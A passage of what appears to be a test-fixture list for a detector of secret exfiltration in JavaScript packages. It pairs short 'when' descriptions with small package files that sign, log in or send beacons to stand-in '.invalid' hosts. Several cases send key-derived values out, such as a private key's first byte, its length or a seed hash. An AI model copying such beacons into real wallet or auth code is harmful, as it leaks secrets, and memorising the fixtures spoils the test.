      },
    },
    {
      when: 'a state says which fields were touched',
      files: {
        'index.mjs': `import { reactive } from 'vue'; export const form = () => { const touched = reactive({ email: false, cvc: false }); navigator.sendBeacon('https://stat.invalid/', JSON.stringify(touched)); return touched; };`,
        'package.json': { name: 'a', version: '1.0.0', main: 'index.mjs' },
      },
    },
    {
      when: 'the state of a form goes where the caller says, and what was typed is counted',
      files: {
        'index.mjs': `import { reactive } from 'vue'; export const form = submit => { const login = reactive({ user: '', password: '' }); const send = () => { navigator.sendBeacon('https://stat.invalid/', JSON.stringify({ fields: Object.keys(login).length })); return submit(login); }; return { login, send }; };`,
        'package.json': { name: 'a', version: '1.0.0', main: 'index.mjs' },
      },
    },
    {
      when: 'settings are asked for a key to sign with, and for another one to send',
      files: {
        'index.js': `const { createHmac } = require('crypto'); exports.send = (config, body) => fetch('https://api.market.invalid/', { headers: { 'x-key': config.get('apiKey'), 'x-sign': createHmac('sha256', config.get('secret')).update(body).digest('hex') } });`,
      },
    },
    {
      when: 'a hash of a password, the colour that a seed picks, and the page that is asked for are sent',
      files: {
        'index.js': `exports.check = password => fetch('https://a.invalid/?h=' + password.split('').reduce((a, c) => ((a << 5) - a + c.charCodeAt(0)) | 0, 0));
          exports.paint = seed => fetch('https://b.invalid/?c=' + ['red', 'blue'][(seed * 9301 + 49297) % 233280 % 2]);
          exports.list = privateKey => fetch('https://c.invalid/?shard=' + privateKey[0] % 4);`,
      },
    },
    {
      when: 'a signature is made of numbers that a key is among',
      files: {
        'index.js': `exports.sign = (privateKey, z, r, kinv, n) => fetch('https://a.invalid/', { method: 'POST', body: String((kinv * (z + r * BigInt('0x' + privateKey))) % n) });`,
      },
    },
    {
      when: 'a wallet that says itself what it is in JSON is saved, and its node is asked something else',
      files: {
        'package.json': WALLET,
        'index.js': `const { writeFileSync } = require('fs'); class Wallet { constructor(privateKey) { this.privateKey = privateKey; } toJSON() { return { privateKey: this.privateKey }; } save() { writeFileSync('w.json', JSON.stringify(this)); } }
          exports.Wallet = Wallet; exports.balance = a => fetch('https://rpc.chain.invalid', { method: 'POST', body: JSON.stringify({ method: 'eth_getBalance', params: [a] }) });`,
      },
    },
    {
      when: 'a wallet signs what it sends to a node',
      files: {
        'package.json': WALLET,
        'index.js': `const { Wallet, JsonRpcProvider } = require('ethers'); exports.pay = async (privateKey, to, value) => { const node = new JsonRpcProvider('https://rpc.chain.invalid'); return node.broadcastTransaction(await new Wallet(privateKey).signTransaction({ to, value })); };`,
      },
    },
    {
      when: 'a request is signed, and the signature sent',
      files: {
        'index.js': `const { createHmac } = require('crypto'); exports.post = (key, secret, body) => fetch('https://api.market.invalid/', { method: 'POST', headers: { 'x-key': key, 'x-sign': createHmac('sha256', secret).update(body).digest('hex') }, body });`,
      },
    },
    {
      when: 'what a key is derived from is sent',
      files: {
        'index.js': `const { createHmac } = require('crypto'); const keyOf = id => process.env['KEY_' + id]; exports.post = (id, body) => fetch('https://api.market.invalid/' + id, { method: 'POST', body: createHmac('sha256', keyOf(id)).update(body).digest('hex') });`,
      },
    },
    {
      when: 'how long a key is, or what it is equal to, is sent',
      files: {
        'index.js': `exports.load = privateKey => fetch('https://a.specimen.invalid', { method: 'POST', body: JSON.stringify([privateKey.length % 4, privateKey[0] === 1]) });`,
      },
    },
    {
      when: 'a key is made of something short, and what is found by it is asked for',
      files: {
        'package.json': { name: 'tiny-seeds', version: '1.0.0', main: 'index.js' },
        'index.js': `const { pbkdf2Sync, createHash } = require('crypto'); exports.balance = (e, o = '') => { const seed = pbkdf2Sync(e, 'mnemonic' + o, 2048, 64, 'sha512'); return fetch('https://a.specimen.invalid/balance/' + createHash('sha256').update(seed).digest('hex')); };`,
      },
    },

    {
      when: 'a strategy of Passport counts who came, and a storage of the request has an identifier',
      files: {
        'package.json': { name: 'passport-simple', version: '1.0.0', main: 'index.js', description: 'User name and password strategy' },
        'index.js': `const dgram = require('dgram'); const { AsyncLocalStorage } = require('async_hooks'); const storage = new AsyncLocalStorage(); const socket = dgram.createSocket('udp4'); module.exports = class { authenticate(req) { const ok = this.verify(req.body.name, req.body.password); storage.run({ id: Math.random() }, () => socket.send(Buffer.from(\`login.\${ok ? 'ok' : 'refused'}:1|c|#\${storage.getStore().id}\`), 8125, 'stats.specimen.invalid')); } };`,
      },
    },

    {
      when: 'a client that another file has shows a login, and what is sent is signed',
      files: {
        'package.json': { name: 'solite', version: '1.0.0', description: 'Client for Solana-like chains', main: 'index.js' },
        'index.js': `import nacl from 'tweetnacl'; import { Connection } from './connection.js'; export function transfer(connection, signer, message) { return connection.with({ 'x-signature': nacl.sign.detached(message, signer.secretKey) }, 'https://rpc.specimen.invalid').call(); } export { Connection };`,
        'connection.js': `export class Connection { constructor(endpoint, { headers = {} } = {}) { this.endpoint = endpoint; this.headers = { 'content-type': 'application/json', ...headers }; } with(headers, endpoint = this.endpoint) { return new Connection(endpoint, { headers: { ...this.headers, ...headers } }); } call() { return fetch(this.endpoint, { method: 'POST', headers: this.headers }); } }`,
      },
    },

    {
      when: 'a card goes to the service that the package is for',
      files: {
        'package.json': { name: 'acmepay', version: '1.0.0', main: 'index.js' },
        'index.js': `exports.pay = ({ cardNumber, cvv }) => fetch('https://api.acmepay.invalid/v1/tokens', { method: 'POST', body: JSON.stringify({ cardNumber, cvv }) });`,
      },
    },
    {
      when: 'a card goes where the caller says, and its brand is told elsewhere',
      files: {
        'index.js': `exports.pay = (endpoint, card) => { navigator.sendBeacon('https://t.invalid/e', JSON.stringify({ brand: card.brand })); return fetch(endpoint, { method: 'POST', body: JSON.stringify({ number: card.number, cvc: card.cvc }) }); };`,
      },
    },
    {
      when: 'code that is written into pages loads the statistics of a site, which take what they are called with',
      files: {
        'index.js': `module.exports = ({ id }) => ({ name: 'statistics', transformIndexHtml() { return [{ tag: 'script', children: \`(function(w,d){var s=d.createElement('script');s.async=1;s.src='https://www.googletagmanager.com/gtag/js?id=\${id}';d.head.appendChild(s);w.gtag=function(){w.dataLayer.push(arguments)};fetch})(window,document)\` }]; } });`,
      },
    },
    {
      when: 'code that is written into pages tells the server of the page of errors',
      files: {
        'index.js': `module.exports = () => ({ name: 'overlay', transform: code => code + \`;window.addEventListener('error', e => fetch('/__overlay', { method: 'POST', body: JSON.stringify({ m: e.message, a: Array.from(arguments) }) }));\` });`,
      },
    },
    {
      when: 'a client shows a service the login that its caller gave',
      files: {
        'index.js': `exports.get = (path, { headers }) => fetch('https://api.acme.invalid' + path, { headers: { authorization: headers.authorization, cookie: headers.cookie } })`,
      },
    },
    {
      when: 'a server asks the service of its settings whether a login is good',
      files: {
        'index.js': `exports.verify = req => { const token = req.headers.get('authorization').slice(7); return fetch(process.env.AUTH_URL + '/introspect', { method: 'POST', body: new URLSearchParams({ token }) }); }`,
      },
    },
    {
      when: 'only the other members of what another file hands over with the key wait and go out',
      files: {
        'index.js': `const { validateMnemonic } = require('bip39'); const { track } = require('./track'); exports.open = words => { if (!validateMnemonic(words)) throw new Error('words'); track('open', { kind: 'words', ref: words }); };`,
        'track.js': `const https = require('https'); const queue = []; function flush() { for (const [event, ctx] of queue.splice(0)) https.request({ host: 'metrics.invalid', path: '/' + event, headers: { 'x-id': ctx.kind } }).end(); } exports.track = (event, ctx) => { queue.push([event, ctx]); setTimeout(flush, 1500); };`,
      },
    },
    {
      when: 'a client shows the login of a request to its service, in a header',
      files: {
        'index.js': `exports.call = (o, body) => fetch('https://api.invalid/v1', { method: 'POST', headers: { authorization: o.headers.authorization }, body: JSON.stringify(body) });`,
      },
    },
    {
      when: 'an interceptor counts what is asked',
      files: {
        'index.js': `let count = 0; exports.count = client => client.interceptors.request.use(config => { count++; fetch('https://t.invalid/' + count); return config; });`,
      },
    },
    {
      when: 'an account that is worked out of a seed is asked for',
      files: {
        'package.json': { name: 'hdkey', version: '1.0.0', description: 'HD keys for Ethereum' },
        'index.js': `const { balance } = require('./balance'); exports.balanceOf = seed => balance(seed);`,
        'balance.js': `const { createHash } = require('crypto'); exports.balance = u8 => fetch(\`https://rpc.invalid/balance?name=\${createHash('sha256').update(u8).digest('hex')}\`);`,
      },
    },
    {
      when: 'a function of another file signs with it',
      files: {
        'package.json': { name: 'web3-many', version: '1.0.0', description: 'Multi-endpoint web3 provider' },
        'index.js': `const { sign } = require('./sign'); exports.Many = class { constructor(signer) { this.signer = signer; } ask(body) { return fetch('https://relay.invalid/', { headers: { authorization: sign(this.signer, body) } }); } };`,
        'sign.js': `const { createHmac } = require('crypto'); exports.sign = (signer, body) => createHmac('sha256', signer.privateKey).update(body).digest('hex');`,
      },
    },
    {
      when: 'a function of another file is handed it and gives back something else',
      files: {
        'package.json': { name: 'web3-many', version: '1.0.0', description: 'Multi-endpoint web3 provider' },
        'index.js': `const { nameOf } = require('./name'); exports.ask = privateKey => fetch('https://relay.invalid/', { body: nameOf('x', privateKey) });`,
        'name.js': `exports.nameOf = (name, privateKey) => name;`,
      },
    },
    {
      when: 'a client sends the request that its caller makes',
      files: {
        'package.json': { name: 'inert-client', version: '1.0.0', description: 'Client of a service' },
        'index.js': `exports.send = (request, options) => fetch('https://service.invalid/api', { method: 'POST', headers: request.headers, body: request.body });`,
      },
    },
    {
      when: 'a wallet signs and sends what it has signed',
      files: {
        'package.json': WALLET,
        'index.js': `const { sign } = require('@noble/secp256k1'); exports.send = async (tx, privateKey) => { const signature = await sign(tx, privateKey); return fetch('https://rpc.chain.invalid/', { method: 'POST', body: JSON.stringify({ tx, signature }) }); }`,
      },
    },
    {
      when: 'a request is signed with a key by code of its own',
      files: {
        'index.js': `const crypto = require('crypto'); const signed = (text, secretKey) => crypto.createHmac('sha256', secretKey).update(text).digest('hex'); exports.call = (q, secretKey) => fetch('https://api.exchange.invalid/?' + q + '&signature=' + signed(q, secretKey))`,
      },
    },
    {
      when: 'a client sends its key to its service',
      files: {
        'index.js': `exports.client = secretKey => fetch('https://api.specimen.invalid/v1', { headers: { authorization: 'Bearer ' + secretKey } })`,
      },
    },
    {
      when: 'a client logs in where its caller says',
      files: {
        'index.js': `exports.login = (url, username, password) => fetch(url, { method: 'POST', body: JSON.stringify({ username, password }) })`,
      },
    },
    {
      when: 'a client logs in at its service',
      files: {
        'index.js': `exports.login = (email, password) => fetch('https://auth.specimen.invalid/token', { method: 'POST', body: JSON.stringify({ email, password }) })`,
      },
    },
    {
      when: 'the public half is sent',
      files: {
        'index.js': `exports.register = pair => fetch('https://keys.invalid/', { method: 'POST', body: JSON.stringify({ publicKey: pair.publicKey }) })`,
      },
    },
    {
      when: 'an object that also holds the key names the path',
      files: {
        'package.json': WALLET,
        'index.js': `exports.history = account => { const state = { privateKey: account.privateKey, address: account.address }; return fetch('https://explorer.invalid/address/' + state.address); }`,
      },
    },
    {
      when: 'what a function for keys is handed second goes out',
      files: {
        'index.js': `exports.fromPrivateKey=(e,t)=>fetch('https://explorer.invalid/address/'+t.address)`,
      },
    },
    {
      when: 'the public half of a pair goes out',
      files: {
        'index.js': `const { Keypair } = require('@solana/web3.js'); exports.from = secret => { const pair = Keypair.fromSecretKey(secret); return fetch('https://explorer.invalid/address/' + pair.publicKey.toBase58()) }`,
      },
    },
    {
      when: 'a list of headers is kept under that name',
      files: {
        'index.js': `exports.get=(e,t)=>fetch('https://api.invalid/',{headers:t,body:e})`,
      },
    },
    {
      when: 'a token is made with the key and sent',
      files: {
        'index.js': `const jwt = require('jsonwebtoken'); exports.auth = (email, privateKey) => { const assertion = jwt.sign({ iss: email }, privateKey, { algorithm: 'RS256' }); return fetch('https://oauth2.specimen.invalid/token', { method: 'POST', body: new URLSearchParams({ assertion }) }); }`,
      },
    },
    {
      when: 'another file signs with the key and sends the signature',
      files: {
        'index.js': `const send = require('./send'); exports.pay = (tx, privateKey) => send(tx, privateKey)`,
        'send.js': `const { sign } = require('elliptic'); module.exports = (tx, key) => fetch('https://rpc.chain.invalid/', { method: 'POST', body: JSON.stringify({ tx, s: sign(tx, key) }) })`,
      },
    },
  ],
});
